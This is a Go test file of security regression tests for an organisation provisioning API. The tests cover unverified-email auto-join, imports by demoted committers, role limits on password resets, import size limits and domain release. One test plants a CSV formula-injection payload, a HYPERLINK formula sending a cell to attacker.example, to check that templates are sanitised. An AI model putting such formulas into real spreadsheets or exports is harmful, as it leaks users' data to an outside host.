package provisioningapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/events"
	"github.com/xuri/excelize/v2"

	"github.com/vendorportal/orgs/internal/apitest"
	"github.com/vendorportal/orgs/internal/domains"
	"github.com/vendorportal/orgs/internal/httpapi/membersapi"
	"github.com/vendorportal/orgs/internal/httpapi/orgsapi"
	"github.com/vendorportal/orgs/internal/httpapi/provisioningapi"
	"github.com/vendorportal/orgs/internal/httpapi/rolesapi"
	"github.com/vendorportal/orgs/internal/provisioning"
	"github.com/vendorportal/orgs/internal/roles"
)

// The attacks of the provisioning review: each test is one way in that must stay shut.

// asUnverified makes the request's token say that the identity provider has not verified
// its address (an ID token with email_verified false), or, with noEmail, carry no address at
// all (an access token).
func asUnverified(ev events.APIGatewayV2HTTPRequest, noEmail bool) events.APIGatewayV2HTTPRequest {
	claims := ev.RequestContext.Authorizer.JWT.Claims
	claims["email_verified"] = "false"
	if noEmail {
		delete(claims, "email")
		delete(claims, "email_verified")
	}
	return ev
}

func TestAnAddressCreatedWithItsPasswordMailedElsewhereCannotAutoJoinItsDomainsOrg(t *testing.T) {
	a, dir := apitest.ProvisioningAPI(t)
	// Bigcorp verified its domain and lets its people join.
	ada := apitest.Person("ada")
	bigcorp := a.Org(ada, "Bigcorp")
	a.VerifiedDomain(ada, bigcorp, "bigcorp.com")
	if r := a.Do(orgsapi.UpdateOrg, &ada, map[string]string{"orgId": bigcorp}, nil, `{"autoJoin":"join"}`); r.Status != 200 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	// Mallory's org creates an account for Bigcorp's CEO, whose password goes to Mallory.
	mal := apitest.Person("mallory")
	evil := a.Org(mal, "Evil")
	r := a.Do(provisioningapi.CreateMember, &mal, map[string]string{"orgId": evil}, nil, `{"email":"ceo@bigcorp.com","notifyEmail":"mallory@example.com"}`)
	if r.Status != 201 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	u := dir.User("ceo@bigcorp.com")
	if u.Verified {
		t.Fatal("the address was marked verified")
	}
	// Mallory signs in as ceo@bigcorp.com: the identity provider vouches for no address.
	ceo := apitest.Person("ceo")
	ceo.ID, ceo.Email = u.ID, "ceo@bigcorp.com"
	for name, noEmail := range map[string]bool{"an ID token with email_verified false": false, "an access token": true} {
		t.Run(name, func(t *testing.T) {
			join := a.Call(provisioningapi.JoinOrg, asUnverified(a.Request(provisioningapi.JoinOrg, &ceo, map[string]string{"orgId": bigcorp}, nil, ""), noEmail))
			if join.StatusCode == 200 {
				t.Fatalf("joined Bigcorp by an address nobody proved: %s", join.Body)
			}
			sugg := a.Call(provisioningapi.SuggestedOrgs, asUnverified(a.Request(provisioningapi.SuggestedOrgs, &ceo, nil, nil, ""), noEmail))
			if strings.Contains(sugg.Body, bigcorp) {
				t.Errorf("Bigcorp suggested to an address nobody proved: %d %s", sugg.StatusCode, sugg.Body)
			}
		})
	}
	if r := a.Do(membersapi.ListMembers, &ada, map[string]string{"orgId": bigcorp}, nil, ""); strings.Contains(r.Body, "ceo@bigcorp.com") {
		t.Fatalf("Bigcorp's members: %s", r.Body)
	}
	// Once the identity provider vouches for the address (the CEO verified it), it counts.
	if r := a.Do(provisioningapi.JoinOrg, &ceo, map[string]string{"orgId": bigcorp}, nil, ""); r.Status != 200 {
		t.Fatalf("a verified claim: %d %s", r.Status, r.Body)
	}
}

func TestAnImportAddsNobodyOnceItsCommitterMayNoLongerAddMembers(t *testing.T) {
	a, dir := importAPI(t)
	ada, vic := apitest.Person("ada"), apitest.Person("vic")
	orgID := a.Org(ada, "Acme")
	a.Member(orgID, vic, roles.Admin)
	a.Writes.Reset()
	r := a.Upload(&vic, orgID, "text/csv", []byte("email,role\nnew-admin@example.com,admin\nnew-user@example.com,user\n"), false)
	if r.Status != 202 {
		t.Fatalf("commit: %d %s", r.Status, r.Body)
	}
	var job struct{ ID string }
	_ = json.Unmarshal([]byte(r.Body), &job)
	chunks := a.OutboxChunks()
	// Vic is demoted before the stream processor gets to the rows.
	if r := a.Do(membersapi.UpdateMember, &ada, map[string]string{"orgId": orgID, "userId": vic.ID}, nil, `{"role":"user"}`); r.Status != 200 {
		t.Fatalf("demote: %d %s", r.Status, r.Body)
	}
	handle := a.Env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range chunks {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.User("new-admin@example.com") != nil || dir.User("new-user@example.com") != nil {
		t.Error("the identity provider got users on the strength of a committer who lost the right")
	}
	list := a.Do(membersapi.ListMembers, &ada, map[string]string{"orgId": orgID}, nil, "")
	if strings.Contains(list.Body, "new-admin@example.com") || strings.Contains(list.Body, "new-user@example.com") {
		t.Fatalf("members added by a demoted committer's import: %s", list.Body)
	}
	got := a.Do(provisioningapi.GetImport, &ada, map[string]string{"orgId": orgID, "importId": job.ID}, nil, "")
	if !strings.Contains(got.Body, `"status":"done"`) || !strings.Contains(got.Body, `"failed":2`) || !strings.Contains(got.Body, `"forbidden"`) {
		t.Fatalf("job: %s; want done with both rows forbidden", got.Body)
	}
}

func TestAnImportRowIsCheckedAgainstItsCommittersRoleAsItIsWhenItRuns(t *testing.T) {
	a, dir := importAPI(t)
	ada, cat := apitest.Person("ada"), apitest.Person("cat")
	orgID := a.Org(ada, "Acme")
	// A custom role that manages members but holds nothing beyond the role user's.
	r := a.Do(rolesapi.CreateRole, &ada, map[string]string{"orgId": orgID}, nil,
		`{"name":"Helpdesk","description":"","permissions":["org.read","products.access","token.view","support.access","members.read","members.manage"]}`)
	if r.Status != 201 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	var role struct{ ID string }
	_ = json.Unmarshal([]byte(r.Body), &role)
	a.Member(orgID, cat, roles.Role(role.ID))
	// Cat may import users, not admins.
	if r := a.Upload(&cat, orgID, "text/csv", []byte("email,role\nboss@example.com,admin\n"), true); !strings.Contains(r.Body, `"forbidden"`) {
		t.Fatalf("dry run of an admin row by a helpdesk member: %d %s", r.Status, r.Body)
	}
	a.Writes.Reset()
	if r := a.Upload(&cat, orgID, "text/csv", []byte("email,role\nok@example.com,user\n"), false); r.Status != 202 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	handle := a.Env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range a.OutboxChunks() {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.User("ok@example.com") == nil {
		t.Error("a row the committer may add was not created")
	}
}

func TestAMemberManagerBelowAnAdminCannotResetTheAdminsPasswordNorRenameThem(t *testing.T) {
	a, dir := apitest.ProvisioningAPI(t)
	ada, cat := apitest.Person("ada"), apitest.Person("cat")
	orgID := a.Org(ada, "Acme")
	r := a.Do(rolesapi.CreateRole, &ada, map[string]string{"orgId": orgID}, nil,
		`{"name":"Helpdesk","description":"","permissions":["org.read","support.access","members.read","members.manage"]}`)
	if r.Status != 201 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	var role struct{ ID string }
	_ = json.Unmarshal([]byte(r.Body), &role)
	a.Member(orgID, cat, roles.Role(role.ID))
	// An admin the org created (provisioned), and a user it created.
	for _, body := range []string{`{"email":"boss@example.com","role":"admin"}`, `{"email":"temp@example.com","role":"support_only"}`} {
		if r := a.Do(provisioningapi.CreateMember, &ada, map[string]string{"orgId": orgID}, nil, body); r.Status != 201 {
			t.Fatalf("%d %s", r.Status, r.Body)
		}
	}
	boss := dir.User("boss@example.com")
	first := boss.Password
	p := map[string]string{"orgId": orgID, "userId": boss.ID}
	if r := a.Do(provisioningapi.ResetMemberPassword, &cat, p, nil, ""); r.Status != 403 {
		t.Errorf("a helpdesk member reset an admin's password: %d %s", r.Status, r.Body)
	}
	if boss.Password != first {
		t.Error("the admin's password changed")
	}
	if r := a.Do(membersapi.UpdateMember, &cat, p, nil, `{"name":"Locked Out"}`); r.Status != 403 {
		t.Errorf("a helpdesk member renamed an admin: %d %s", r.Status, r.Body)
	}
	// A member the helpdesk role covers is theirs to help.
	temp := dir.User("temp@example.com")
	if r := a.Do(provisioningapi.ResetMemberPassword, &cat, map[string]string{"orgId": orgID, "userId": temp.ID}, nil, ""); r.Status != 204 {
		t.Errorf("a helpdesk member resetting a support-only member's password: %d %s", r.Status, r.Body)
	}
}

// sparseXLSX is a workbook with the header in row 1 and rows data rows from row first on.
func sparseXLSX(t *testing.T, first, rows int, extra func(f *excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	_ = f.SetSheetRow("Sheet1", "A1", &[]any{"email", "name"})
	for i := 0; i < rows; i++ {
		cell, _ := excelize.CoordinatesToCellName(1, first+i)
		_ = f.SetSheetRow("Sheet1", cell, &[]any{fmt.Sprintf("u%d@example.com", i), "U"})
	}
	if extra != nil {
		extra(f)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestAnXLSXImportOfMoreThanAThousandRowsIsRefusedNotCutShort(t *testing.T) {
	a, _ := importAPI(t)
	ada := apitest.Person("ada")
	orgID := a.Org(ada, "Acme")
	// 1,001 rows after a gap of blank rows: the rows past the 1,002nd of the sheet must not
	// vanish unseen.
	r := a.Upload(&ada, orgID, provisioning.ContentTypeXLSX, sparseXLSX(t, 20, 1001, nil), true)
	if r.Status != 413 {
		t.Fatalf("%d %.300s; want 413", r.Status, r.Body)
	}
	// 1,000 rows after the gap are fine, and blank rows below them (a formatted sheet) too.
	ok := sparseXLSX(t, 20, 1000, func(f *excelize.File) { _ = f.SetRowHeight("Sheet1", 5000, 30) })
	if r := a.Upload(&ada, orgID, provisioning.ContentTypeXLSX, ok, true); r.Status != 200 {
		t.Fatalf("%d %.300s; want 200", r.Status, r.Body)
	}
}

func TestTheImportTemplateCarriesNoFormulaFromAPropertyLabel(t *testing.T) {
	a, _ := importAPI(t)
	ada := apitest.Person("ada")
	orgID := a.Org(ada, "Acme")
	evil := `=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")`
	if r := a.Do(provisioningapi.PutUserProperties, &ada, map[string]string{"orgId": orgID}, nil,
		`{"items":[{"key":"team","label":"`+evil+`","type":"string","required":false},{"key":"site","label":"@SUM(1+1)","type":"string","required":false}]}`); r.Status != 200 {
		t.Fatalf("%d %s", r.Status, r.Body)
	}
	resp := a.Call(provisioningapi.ImportTemplate, a.Request(provisioningapi.ImportTemplate, &ada, map[string]string{"orgId": orgID}, map[string][]string{"format": {"csv"}}, ""))
	if resp.StatusCode != 200 {
		t.Fatalf("%d %s", resp.StatusCode, resp.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(resp.Body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%v %q", err, resp.Body)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=@", rune(c[0])) {
				t.Errorf("the template has a cell a spreadsheet runs as a formula: %q", c)
			}
		}
	}
}

func TestADeletedOrgLetsGoOfItsVerifiedDomains(t *testing.T) {
	a, _ := apitest.ProvisioningAPI(t)
	ada, bob := apitest.Person("ada"), apitest.Person("bob")
	old := a.Org(ada, "Old Acme")
	a.VerifiedDomain(ada, old, "acme-corp.com")
	access, _ := a.Env.Orgs().Authorize(context.Background(), ada, old)
	if r := a.Do(orgsapi.DeleteOrg, &ada, map[string]string{"orgId": old}, map[string]string{"confirm": access.Org.Handle}, ""); r.Status != 204 {
		t.Fatalf("delete: %d %s", r.Status, r.Body)
	}
	if _, err := a.Store.DomainOwner(context.Background(), "acme-corp.com"); err == nil {
		t.Error("the deleted org still holds the domain's guard")
	}
	// The company's new org verifies the domain.
	fresh := a.Org(bob, "New Acme")
	a.Do(provisioningapi.AddDomain, &bob, map[string]string{"orgId": fresh}, nil, `{"domain":"acme-corp.com"}`)
	access, _ = a.Env.Orgs().Authorize(context.Background(), bob, fresh)
	s := *a.Env.DomainVerification()
	s.Resolver = apitest.Zone{domains.TXTLabel + ".acme-corp.com": {access.Org.Domains[0].TXTValue}}
	if _, err := s.Verify(context.Background(), access, "acme-corp.com", domains.VerifyInput{}); err != nil {
		t.Fatalf("verifying a domain whose org was deleted: %v", err)
	}
}

func TestALargeImportWithinTheLimitsIsChunkedToFitItsItemsAndNeverA5xx(t *testing.T) {
	a, dir := importAPI(t)
	ada := apitest.Person("ada")
	orgID := a.Org(ada, "Acme")
	// 500 KB in 10 rows: one chunk of them (a chunk counts up to 50) would be an item over
	// DynamoDB's 400 KB.
	body := a.WideCSV(ada, orgID, "u", 10)
	a.Writes.Reset()
	r := a.Upload(&ada, orgID, "text/csv", body, false)
	if r.Status != 202 {
		t.Fatalf("%d bytes: %d %.300s", len(body), r.Status, r.Body)
	}
	handle := a.Env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range a.OutboxChunks() {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.User("u9@example.com") == nil {
		t.Error("the last row was not created")
	}
	// Rows holding more than one transaction can carry are refused as too large, whole.
	more := a.WideCSV(ada, orgID, "v", 70)
	if r := a.Upload(&ada, orgID, "text/csv", more, false); r.Status != 413 {
		t.Fatalf("%d bytes: %d %.300s; want 413", len(more), r.Status, r.Body)
	}
}
